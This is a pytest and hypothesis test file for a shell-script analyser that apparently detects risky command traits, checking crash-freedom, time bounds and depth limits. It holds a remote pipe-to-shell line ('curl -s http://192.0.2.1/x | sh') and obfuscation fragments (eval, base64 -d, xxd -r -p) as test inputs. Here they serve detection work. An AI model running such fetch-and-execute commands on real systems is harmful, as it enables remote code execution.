# SPDX-License-Identifier: Apache-2.0
"""Whatever the text: no exception, bounded time, and what was left out is counted."""

from __future__ import annotations

import subprocess
import sys
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from innerwarden.shell import MAX_TEXT_BYTES, analyse_argv, analyse_line, analyse_script, grammar, traits_of

TOKENS = [
    *(
        "$(",
        "${",
        "`",
        ")",
        "}",
        "'",
        '"',
        "|",
        "||",
        "&&",
        ";",
        "\n",
        "<<EOF\n",
        "EOF\n",
        "<(",
        ">(",
        "<<<",
        ">",
    ),
    *(
        "<",
        ">&",
        "2>&1",
        "if ",
        "then ",
        "fi",
        "for i in ",
        "do ",
        "done",
        "while ",
        "case x in ",
        "esac",
        "{",
    ),
    *("a,b", "(", "$'\\x41'", "$'\\x'", "$IFS", "${IFS}", "$@", "$1", "a=", "b=", "$a", "$b", "${a//x/y}"),
    *(
        "${a:0:1}",
        "curl ",
        "sh ",
        "-c ",
        "eval ",
        "echo ",
        "base64 -d",
        "| sh",
        "\\",
        "\\x",
        "é",
        "\0",
        "\ufffd",
    ),
    *("[[ ", "]]", "((", "$((", "#c", "~", "*", "?", "[a-z]", "printf ", "rev", "tr a-z n-za-m", "xxd -r -p"),
    *("aWQ=", "function f", "f(){ ", " ", "a=$(x $a$b) "),
]
texts = st.one_of(
    st.lists(st.sampled_from(TOKENS), max_size=120).map("".join),
    st.text(max_size=400),
    st.tuples(st.sampled_from(TOKENS), st.sampled_from(TOKENS), st.integers(1, 2000)).map(
        lambda parts: parts[0] * parts[2] + parts[1] * parts[2]
    ),
)


@settings(max_examples=300, deadline=None)
@given(texts)
def test_no_text_raises_or_holds_up(text: str) -> None:
    begun = time.thread_time()
    for analysis in (analyse_script(text), analyse_argv(["sh", "-c", text, text[:9]]), analyse_line(text)):
        traits_of(analysis, "/tmp")
    assert time.thread_time() - begun < 2.0


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=40), max_size=12))
def test_no_argument_vector_raises(argv: list[str]) -> None:
    traits_of(analyse_argv(argv), None)


def test_text_beyond_the_bound_is_counted() -> None:
    analysis = analyse_script("true\n" * MAX_TEXT_BYTES)
    assert analysis.problems["cut"] == 1
    assert 0 < len(analysis.pipelines) <= 512


def test_scripts_in_scripts_end() -> None:
    text = "id"
    for _ in range(9):
        text = "eval " + "'" + text.replace("'", "'\\''") + "'"
    assert analyse_script(text).problems["depth"] >= 1


def test_values_made_of_values_do_not_grow() -> None:
    begun = time.thread_time()
    traits_of(analyse_script("a=$(x);b=$(y);" + "a=$(x $a$b);b=$(y $b$a);" * 200))
    assert time.thread_time() - begun < 1.0


def test_a_text_made_to_take_long_is_given_up_and_told() -> None:
    analysis = analyse_script("curl -s http://192.0.2.1/x | sh\n" + "a" * 200 + "| sh" * 3000)
    assert analysis.problems["slow"] == 1
    names = {trait.name for trait in traits_of(analysis)}
    assert {"unreadable", "remote_script_execution"} <= names


def test_many_such_texts_are_refused_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(grammar._spent, "second", int(time.monotonic()))
    monkeypatch.setattr(grammar._spent, "lately_s", lambda: grammar.MAX_SLOW_S + 1)
    long = "true\n" * 1000
    assert analyse_script(long).problems["slow"] == 1
    assert analyse_script("curl x").problems == {}


def test_the_grammar_is_loaded_with_the_first_text() -> None:
    code = (
        "import sys; import innerwarden.sdk as sdk; sdk.require_shell()\n"
        "assert 'tree_sitter' not in sys.modules\n"
        "sdk.analyse_script('id'); assert 'tree_sitter' in sys.modules"
    )
    subprocess.run([sys.executable, "-c", code], check=True)
